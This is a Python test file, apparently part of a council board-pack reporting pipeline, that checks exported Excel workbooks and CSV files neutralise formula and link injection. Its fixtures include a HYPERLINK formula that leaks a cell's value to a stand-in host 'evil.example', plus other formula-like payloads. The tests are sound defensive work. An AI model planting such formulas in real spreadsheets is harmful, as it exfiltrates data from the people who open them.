"""The board pack's workbook holds text as text: no formula and no link made from a project's
inputs, whatever its text, and every hostile value shown as the text it was."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from safer_analysis.pipeline.workbook import write_workbook
from safer_analysis.present.publication import Report

LEAK = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")'
LINK = "[Report a concern](https://evil.example)"
CONTACT = "Call [the team](01752 304 000)"


def workbook_cells(path: Path):
    """Every cell of every sheet, loaded with openpyxl as a spreadsheet reads them: (sheet, cell)."""
    import openpyxl

    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                yield sheet, cell


def formulas_and_foreign_links(path: Path) -> list[str]:
    """Each formula, each text starting '=', and each link that is not the Contents sheet's link
    to a sheet of the same workbook, as ``sheet!cell: value``; also any ``<f>`` element or external
    relationship in the file itself."""
    import openpyxl

    names = openpyxl.load_workbook(path, read_only=True).sheetnames
    own = {f"'{n}'!A1" for n in names}
    found = []
    for sheet, cell in workbook_cells(path):
        where = f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
        if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith("=")):
            found.append("formula " + where)
        link = cell.hyperlink
        if link is not None and (sheet.title != "Contents" or link.target or link.location not in own):
            found.append("link " + where)
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            text = z.read(name).decode("utf-8", "replace")
            if name.startswith("xl/worksheets/sheet") and re.search(r"<f[ >]", text):
                found.append(f"<f> element in {name}")
            if name.endswith(".rels") and 'TargetMode="External"' in text:
                found.append(f"external relationship in {name}")
    return found


def texts(path: Path) -> list[str]:
    return [c.value for _, c in workbook_cells(path) if isinstance(c.value, str)]


def publish(pack: Path, frame: pd.DataFrame, name: str, caption: str, **options) -> None:
    """Publish one table into ``pack`` as a report does (its CSV file and its entry in summaries)."""
    Report("allocation_rationale", "2018-19", "Plymouth", output_dir=pack).table(frame, name, caption, **options)


@pytest.fixture
def hostile_pack(tmp_path: Path) -> Path:
    """A pack folder whose one table carries text a spreadsheet would run or link, in its cells,
    a heading and its caption."""
    frame = pd.DataFrame(
        {
            "project": [LEAK, LINK, "http://evil.example/x", "mailto:someone@evil.example"],
            "provider": ["{=1+1}", "@SUM(1)", "+1+1", "-5%"],
            "rank_label": ["=2 of 8", "1 of 8", "3 of 8", "4 of 8"],
            "amount": [12000.0, -1500.5, None, 3.0],
            "=1+1": [True, False, True, False],
        }
    )
    publish(tmp_path, frame, "alignment", f"Lines and priorities: {LINK}", formats={"amount": "gbp"})
    return tmp_path


@pytest.fixture
def markup_pack(tmp_path: Path) -> Path:
    """A pack folder whose table holds the rest of gptables' markup and what it refuses: note
    references ($$...$$) in a caption, a cell and a heading, two links in one cell, a cell of
    symbols alone."""
    frame = pd.DataFrame(
        {
            "project": ["[one](http://a.example) and [two](http://b.example)", "Costs $$x$$ and $$y$$", "—"],
            "costs $$z$$": [1, 2, 3],
        }
    )
    publish(tmp_path, frame, "lines", "Lines $$note$$ and [a link](http://c.example)")
    return tmp_path


@pytest.fixture
def plain_pack(tmp_path: Path) -> Path:
    """A pack folder with one harmless table."""
    publish(tmp_path, pd.DataFrame({"project": ["Street pastors"], "amount": [1000.0]}), "lines", "Lines")
    return tmp_path


def test_hostile_text_makes_no_formula_and_no_link_and_numbers_stay_numbers(hostile_pack):
    import openpyxl

    book = write_workbook(hostile_pack, "2018-19", "Plymouth", contact="Safer Plymouth")
    assert formulas_and_foreign_links(book) == []
    sheet = openpyxl.load_workbook(book)["Spend and rank by priority"]
    cells = [c for row in sheet.iter_rows() for c in row]
    values = [c.value for c in cells]
    assert 12000 in values and 3 in values and "[x]" in values  # the missing amount is marked
    negative = next(c for c in cells if c.value == -1500.5)  # a negative number stays a number
    assert negative.data_type == "n" and negative.number_format == "£#,##0"


def test_hostile_text_is_shown_as_the_text_it_was(hostile_pack):
    book = write_workbook(hostile_pack, "2018-19", "Plymouth", contact="Safer Plymouth")
    found = set(texts(book))
    for value in [
        "'" + LEAK,  # neutralised as in the CSV file: shown with the apostrophe before it
        LINK,
        "http://evil.example/x",
        "mailto:someone@evil.example",
        "{=1+1}",
        "'=2 of 8",
        "'@SUM(1)",
        "'+1+1",
        "-5%",
        "'=1+1",  # a heading
        f"Lines and priorities: {LINK}",
    ]:
        assert value in found, value


def test_gptables_markup_in_text_is_shown_as_text(markup_pack):
    book = write_workbook(markup_pack, "2018-19", "Plymouth")
    assert formulas_and_foreign_links(book) == []
    found = set(texts(book))
    for value in [
        "[one](http://a.example) and [two](http://b.example)",
        "Costs $$x$$ and $$y$$",
        "—",
        "Lines $$note$$ and [a link](http://c.example)",
    ]:
        assert value in found, value
    assert "Costs $\u2060$z$\u2060$" in found  # a heading cannot be rich text: a word joiner keeps its dollars apart
    assert not any("[note" in t for t in found if t.startswith("Lines"))


def test_a_contact_written_as_a_markdown_link_is_shown_as_text(plain_pack):
    book = write_workbook(plain_pack, "2018-19", "Plymouth", contact=CONTACT)
    assert CONTACT in texts(book)
    assert formulas_and_foreign_links(book) == []


def test_a_partnership_name_that_looks_like_a_formula_or_link_is_text(plain_pack):
    name = "=Plymouth [Safer](https://evil.example)"
    book = write_workbook(plain_pack, "2018-19", name)
    assert formulas_and_foreign_links(book) == []
    assert f"'{name} Community Safety Partnership board pack, financial year 2018-19" in texts(book)


#: A CSV cell a spreadsheet reads as a number: it may start with a sign.
CSV_NUMBER = re.compile(r"[+-]?£?[\d,]*\.?\d+(?:[eE][+-]?\d+)?%?")


def runnable_csv_cells(folder: Path) -> list[str]:
    """Each cell of the CSV files below ``folder`` that a spreadsheet would read as a formula."""
    import csv

    found = []
    for path in sorted(folder.rglob("*.csv")):
        with open(path, newline="", encoding="utf-8") as handle:
            for n, row in enumerate(csv.reader(handle), 1):
                for cell in row:
                    start = cell.lstrip()[:1]
                    if (
                        cell[:1] in ("\t", "\r")
                        or start in ("=", "@")
                        or (start in ("+", "-") and not CSV_NUMBER.fullmatch(cell))
                    ):
                        found.append(f"{path.name} row {n}: {cell!r}")
    return found


@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory) -> Path:
    """The 2018-19 pack of a copy of the project whose inputs carry hostile text: an allocation
    titled with a formula that leaks a cell, another titled as a markdown link, a local priority
    named ``=1+1`` and a contact written as a markdown link; built once through the command line."""
    import shutil

    from safer_analysis.cli import main
    from safer_analysis.inputs.project import SETTINGS_FILE

    from ..conftest import ROOT, edit_cell, read_rows

    project = tmp_path_factory.mktemp("hostile") / "project"
    project.mkdir()
    shutil.copytree(ROOT / "data", project / "data")
    shutil.copytree(ROOT / "notebooks", project / "notebooks")
    settings = (ROOT / SETTINGS_FILE).read_text(encoding="utf-8")
    settings = re.sub(r'(?m)^contact = ".*"$', f'contact = "{CONTACT}"', settings)
    assert CONTACT in settings
    (project / SETTINGS_FILE).write_text(settings, encoding="utf-8")
    allocations = project / "data" / "allocations.csv"
    ids = [r["allocation_id"] for r in read_rows(allocations)]
    edit_cell(allocations, ids.index("SP-2018-19-01"), "project", LEAK)
    edit_cell(allocations, ids.index("SP-2018-19-03"), "project", LINK)
    priorities = project / "data" / "local_priorities.csv"
    keys = [r["priority_key"] for r in read_rows(priorities)]
    edit_cell(priorities, keys.index("hate_crime"), "name", "=1+1")
    out = project / "outputs"
    assert main(["build", "--year", "2018-19", "--out", str(out), "--project", str(project)]) == 0
    return out / "2018-19"


@pytest.mark.slow
def test_a_pack_built_from_hostile_inputs_has_no_formula_and_no_link_from_them(hostile_build):
    books = sorted(hostile_build.rglob("*.xlsx"))
    assert books
    for book in books:
        assert formulas_and_foreign_links(book) == [], book.name
        found = texts(book)
        assert found.count("'" + LEAK) >= 3, book.name  # on the sheets that list the lines
        assert LINK in found and CONTACT in found and "'=1+1" in found, book.name
    assert runnable_csv_cells(hostile_build) == []
    page = (hostile_build / "allocation_rationale.html").read_text(encoding="utf-8")
    assert "Report a concern](https://evil.example)" in page and 'href="https://evil.example' not in page


@pytest.mark.slow
def test_the_bundled_pack_workbook_holds_no_formula_and_its_tied_rank_as_text(packs):
    import openpyxl

    for year in ("2017-18", "2018-19"):
        (book,) = (packs / year).glob("*.xlsx")
        assert formulas_and_foreign_links(book) == [], year
        assert runnable_csv_cells(packs / year) == [], year
    (book,) = (packs / "2018-19").glob("*.xlsx")
    sheet = openpyxl.load_workbook(book)["Cross-cutting issues"]
    tied = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "=2 of 8" in c.value]
    assert tied and all(c.data_type == "s" and c.value.startswith("'=2 of 8") for c in tied)
